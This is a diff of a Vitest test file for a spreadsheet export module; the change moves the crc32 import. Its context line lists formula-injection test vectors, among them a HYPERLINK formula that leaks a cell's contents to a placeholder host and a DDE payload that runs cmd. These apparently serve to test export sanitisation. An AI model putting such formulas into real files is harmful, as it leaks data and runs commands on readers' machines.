@@ -9,7 +9,7 @@ import { describe, expect, it } from 'vitest';
 import { exportMap } from '../../../shared/exchange/export-map';
 import { number, text } from '../../../shared/exchange/export-table';
 import { columnLetters, tableToXlsx } from '../../../shared/exchange/export-xlsx';
-import { crc32 } from '../../../shared/exchange/export-zip';
+import { crc32 } from '../../../shared/exchange/crc32';
 import { readStoredZip, sampleMap, textOf, TODAY } from './export-fixtures';
 
 const VECTORS = ['=HYPERLINK("http://x/?"&A1,"click")', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', ' =1', 'a "b", c\nd', 'plain'];
